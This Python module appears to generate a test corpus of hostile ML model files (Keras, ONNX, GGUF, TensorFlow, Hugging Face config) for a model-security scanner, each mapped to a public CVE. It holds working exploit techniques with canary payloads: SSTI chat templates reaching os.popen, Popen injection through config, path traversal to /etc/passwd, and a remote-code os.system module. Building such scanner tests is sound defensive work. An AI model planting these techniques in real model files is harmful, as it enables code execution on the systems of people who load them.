"""Hostile Keras, ONNX, GGUF and Hugging Face artifacts, each after a public CVE or advisory.

Payloads are canaries (create /tmp/mlwarden-canary-<technique>) or harmless reads (/etc/hostname, /etc/passwd).
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from corpus.formats import (
    dense_layer,
    gguf_file,
    input_layer,
    keras_archive,
    keras_h5,
    keras_obj,
    lambda_code_b64,
    lambda_layer_v3,
    onnx_linear,
    sequential,
)
from corpus.pickle_ops import canary_path, canary_shell

NVD = "https://nvd.nist.gov/vuln/detail/"
CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + "
    "'<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}"
)


@dataclass(frozen=True)
class FormatCase:
    """One technique in a non-pickle format."""

    technique: str
    ext: str
    fmt: str
    source: str
    build: Callable[[str], bytes]
    description: str


def _keras_with(extra: list[dict[str, object]]) -> bytes:
    layers = [input_layer(4), *extra, dense_layer("dense", 2)]
    return keras_archive(sequential(layers), ["dense"])


def keras_v3_lambda(t: str) -> bytes:
    return _keras_with([lambda_layer_v3(t)])


def keras_h5_lambda(t: str) -> bytes:
    fn_config = {
        "name": "lambda",
        "trainable": True,
        "dtype": "float32",
        "function": [lambda_code_b64(t), None, None],
        "function_type": "lambda",
        "module": "__main__",
        "output_shape": None,
        "output_shape_type": "raw",
        "output_shape_module": None,
        "arguments": {},
    }
    dense = {"class_name": "Dense", "config": {"name": "dense", "units": 2, "activation": "relu"}}
    model = {
        "class_name": "Sequential",
        "config": {
            "name": "sequential",
            "layers": [
                {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "name": "input_1"}},
                {"class_name": "Lambda", "config": fn_config},
                dense,
            ],
        },
    }
    return keras_h5(model, ["dense"])


def keras_foreign_module(t: str) -> bytes:
    popen = keras_obj("subprocess", "Popen", {"args": ["touch", canary_path(t)]}, "Popen")
    layer = dense_layer("dense_inj", 2)
    layer["config"]["kernel_initializer"] = popen
    return _keras_with([layer])


def keras_get_file(t: str) -> bytes:
    cfg = {"fname": canary_path(t), "origin": "file:///etc/hostname", "cache_dir": "/tmp", "cache_subdir": ""}
    layer = dense_layer("dense_fetch", 2)
    layer["config"]["bias_initializer"] = keras_obj("keras.utils", "get_file", cfg, "get_file")
    return _keras_with([layer])


def keras_enable_unsafe_then_lambda(t: str) -> bytes:
    unlock = keras_obj("keras.config", "function", "enable_unsafe_deserialization", "enable_unsafe_deserialization")
    return _keras_with([unlock, lambda_layer_v3(t)])


def keras_tfsmlayer(t: str) -> bytes:
    layer = keras_obj(
        "keras.layers",
        "TFSMLayer",
        {"name": "tfsm", "filepath": canary_path(t), "call_endpoint": "serving_default", "trainable": False},
    )
    return _keras_with([layer])


def keras_stringlookup_file(t: str) -> bytes:
    del t
    layer = keras_obj(
        "keras.layers",
        "StringLookup",
        {"name": "lookup", "vocabulary": "/etc/passwd", "output_mode": "int", "num_oov_indices": 1},
    )
    return _keras_with([layer])


def onnx_traversal(location: str) -> Callable[[str], bytes]:
    def build(t: str) -> bytes:
        del t
        return onnx_linear(external_location=location)

    return build


def gguf_ssti_subclasses(t: str) -> bytes:
    evil = (
        "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
        "{{ c(['touch', '" + canary_path(t) + "']) }}{% endif %}{% endfor %}"
    )
    return gguf_file(evil + CHATML)


def gguf_ssti_obfuscated(t: str) -> bytes:
    evil = (
        "{% set g = lipsum|attr('__glo' ~ 'bals__') %}{% set m = g['o' ~ 's'] %}"
        "{{ (m|attr('po' ~ 'pen'))('" + canary_shell(t) + "') }}"
    )
    return gguf_file(CHATML + evil)


def gguf_ssti_cycler_globals(t: str) -> bytes:
    evil = "{{ cycler.__init__.__globals__.os.popen('" + canary_shell(t) + "').read() }}"
    return gguf_file(CHATML.replace("{% endfor %}", evil + "{% endfor %}", 1))


def keras_h5_nested_lambda(t: str) -> bytes:
    lam = {
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "function": [lambda_code_b64(t), None, None],
            "function_type": "lambda",
            "arguments": {},
        },
    }
    inner = {
        "class_name": "Sequential",
        "name": "inner",
        "config": {"name": "inner", "layers": [lam]},
        "inbound_nodes": [[["input_1", 0, 0, {}]]],
    }
    first = {
        "class_name": "InputLayer",
        "name": "input_1",
        "config": {"batch_input_shape": [None, 4], "name": "input_1"},
        "inbound_nodes": [],
    }
    model = {
        "class_name": "Functional",
        "config": {
            "name": "model",
            "layers": [first, inner],
            "input_layers": [["input_1", 0, 0]],
            "output_layers": [["inner", 0, 0]],
        },
    }
    return keras_h5(model, ["inner"])


def hf_auto_map(t: str) -> bytes:
    del t
    config = {
        "architectures": ["CanaryModel"],
        "model_type": "canary",
        "hidden_size": 4,
        "auto_map": {"AutoConfig": "configuration_canary.CanaryConfig", "AutoModel": "modeling_canary.CanaryModel"},
    }
    return json.dumps(config, indent=2).encode()


def hf_modeling_source(t: str) -> bytes:
    """The remote-code module that auto_map points at (written beside config.json, not itself labelled)."""
    return (f"import os\nos.system({canary_shell(t)!r})\n\n\nclass CanaryModel:\n    pass\n").encode()


def onnx_reordered_traversal(t: str) -> bytes:
    """ONNX external-data traversal with ir_version moved to the end (parsers accept any field order)."""
    del t
    data = onnx_linear(external_location="../../../../etc/passwd")
    assert data[0] == 0x08 and data[1] < 0x80  # ir_version: tag plus a one-byte varint
    return data[2:] + data[:2]


def _pb_len(number: int, payload: bytes) -> bytes:
    size, out = len(payload), bytearray()
    while True:
        out.append(size & 0x7F | (0x80 if size > 0x7F else 0))
        size >>= 7
        if not size:
            break
    return bytes([number << 3 | 2]) + bytes(out) + payload


def tf_frozen_graph_readfile(t: str) -> bytes:
    """A TF1 frozen GraphDef (import_graph_def) whose ReadFile node reads a host file into the graph."""
    del t
    attr = _pb_len(5, _pb_len(1, b"value") + _pb_len(2, _pb_len(2, b"/etc/passwd")))  # NodeDef.attr entry
    const = _pb_len(1, b"path") + _pb_len(2, b"Const") + attr
    read = _pb_len(1, b"leak") + _pb_len(2, b"ReadFile") + _pb_len(3, b"path")
    return _pb_len(1, const) + _pb_len(1, read)


def tf_saved_model_pbtxt(t: str) -> str:
    return (
        "saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n"
        '    node {\n      name: "target"\n      op: "Const"\n'
        f'      attr {{\n        key: "value"\n        value {{ s: "{canary_path(t)}" }}\n      }}\n    }}\n'
        '    node {\n      name: "drop"\n      op: "WriteFile"\n      input: "target"\n    }\n  }\n}\n'
    )


def keras_model_json_lambda(t: str) -> bytes:
    """model.to_json() output with a marshalled Lambda: Keras 2 model_from_json has no safe mode."""
    return json.dumps(sequential([input_layer(4), lambda_layer_v3(t), dense_layer("dense", 2)])).encode()


def keras_config_only_lambda(t: str) -> bytes:
    """A .keras zip with only config.json: Keras deserializes the config before it opens the weights."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("config.json", json.dumps(sequential([input_layer(4), lambda_layer_v3(t)])))
    return out.getvalue()


CASES: tuple[FormatCase, ...] = (
    FormatCase(
        "keras_v3_lambda",
        ".keras",
        "keras-v3",
        NVD + "CVE-2024-3660",
        keras_v3_lambda,
        "Lambda layer with marshalled bytecode in config.json",
    ),
    FormatCase(
        "keras_h5_lambda",
        ".h5",
        "keras-h5",
        NVD + "CVE-2025-9905",
        keras_h5_lambda,
        "legacy H5 model_config with a Lambda (safe_mode is ignored for H5)",
    ),
    FormatCase(
        "keras_h5_nested_lambda",
        ".h5",
        "keras-h5",
        NVD + "CVE-2024-3660",
        keras_h5_nested_lambda,
        "Lambda inside a Sequential nested in a Functional model (scanners must recurse)",
    ),
    FormatCase(
        "keras_foreign_module",
        ".keras",
        "keras-v3",
        NVD + "CVE-2025-1550",
        keras_foreign_module,
        "config.json names subprocess.Popen as a nested object for Keras to import and build",
    ),
    FormatCase(
        "keras_get_file",
        ".keras",
        "keras-v3",
        "https://jfrog.com/blog/keras-safe_mode-bypass-vulnerability (CVE-2025-8747)",
        keras_get_file,
        "keras.utils.get_file invoked from config: arbitrary file write",
    ),
    FormatCase(
        "keras_enable_unsafe_then_lambda",
        ".keras",
        "keras-v3",
        NVD + "CVE-2025-9906",
        keras_enable_unsafe_then_lambda,
        "config calls keras.config.enable_unsafe_deserialization, then Lambda",
    ),
    FormatCase(
        "keras_tfsmlayer",
        ".keras",
        "keras-v3",
        NVD + "CVE-2026-1462",
        keras_tfsmlayer,
        "TFSMLayer loads an attacker-chosen SavedModel path at deserialization",
    ),
    FormatCase(
        "keras_stringlookup_file",
        ".keras",
        "keras-v3",
        "https://github.com/keras-team/keras/security/advisories/GHSA-qg93-c7p6-gg7f",
        keras_stringlookup_file,
        "StringLookup vocabulary is a local file path read at load",
    ),
    FormatCase(
        "onnx_external_dotdot",
        ".onnx",
        "onnx",
        NVD + "CVE-2022-25882",
        onnx_traversal("../../../etc/passwd"),
        "external_data location climbs out of the model directory",
    ),
    FormatCase(
        "onnx_external_absolute",
        ".onnx",
        "onnx",
        NVD + "CVE-2024-27318",
        onnx_traversal("/etc/passwd"),
        "external_data location is an absolute path",
    ),
    FormatCase(
        "onnx_external_mid_traversal",
        ".onnx",
        "onnx",
        NVD + "CVE-2026-27489",
        onnx_traversal("weights/../../../../etc/hostname"),
        "'..' after a harmless first component",
    ),
    FormatCase(
        "gguf_ssti_subclasses",
        ".gguf",
        "gguf",
        NVD + "CVE-2024-34359",
        gguf_ssti_subclasses,
        "chat template walks __subclasses__ to Popen",
    ),
    FormatCase(
        "gguf_ssti_obfuscated",
        ".gguf",
        "gguf",
        NVD + "CVE-2026-5760",
        gguf_ssti_obfuscated,
        "chat template reaches os.popen via attr filter and split strings",
    ),
    FormatCase(
        "gguf_ssti_cycler_globals",
        ".gguf",
        "gguf",
        "https://github.com/abetlen/llama-cpp-python/security/advisories/GHSA-56xg-wfcc-g829",
        gguf_ssti_cycler_globals,
        "cycler.__init__.__globals__.os.popen inside the message loop of a ChatML template",
    ),
    FormatCase(
        "hf_auto_map_remote_code",
        "config.json",
        "hf-config",
        "https://huggingface.co/docs/transformers/custom_models",
        hf_auto_map,
        "auto_map makes from_pretrained(trust_remote_code=True) import repository code",
    ),
    FormatCase(
        "onnx_reordered_traversal",
        ".onnx",
        "onnx",
        NVD + "CVE-2022-25882",
        onnx_reordered_traversal,
        "external-data path traversal in a model whose protobuf fields are out of order",
    ),
    FormatCase(
        "tf_frozen_graph_readfile",
        ".pb",
        "tf-graphdef",
        "https://github.com/tensorflow/tensorflow/blob/master/SECURITY.md",
        tf_frozen_graph_readfile,
        "frozen GraphDef with a ReadFile node on /etc/passwd",
    ),
    FormatCase(
        "tf_saved_model_pbtxt",
        "saved_model.pbtxt",
        "tf-savedmodel-text",
        "https://github.com/tensorflow/tensorflow/blob/master/SECURITY.md",
        lambda t: tf_saved_model_pbtxt(t).encode(),
        "text-format SavedModel (loaded when saved_model.pb is absent) with a WriteFile node",
    ),
    FormatCase(
        "keras_model_json_lambda",
        ".json",
        "keras-json",
        NVD + "CVE-2024-3660",
        keras_model_json_lambda,
        "model_from_json architecture with a marshalled Lambda",
    ),
    FormatCase(
        "keras_config_only_lambda",
        ".keras",
        "keras-v3",
        NVD + "CVE-2024-3660",
        keras_config_only_lambda,
        ".keras zip holding only config.json, with a marshalled Lambda",
    ),
)
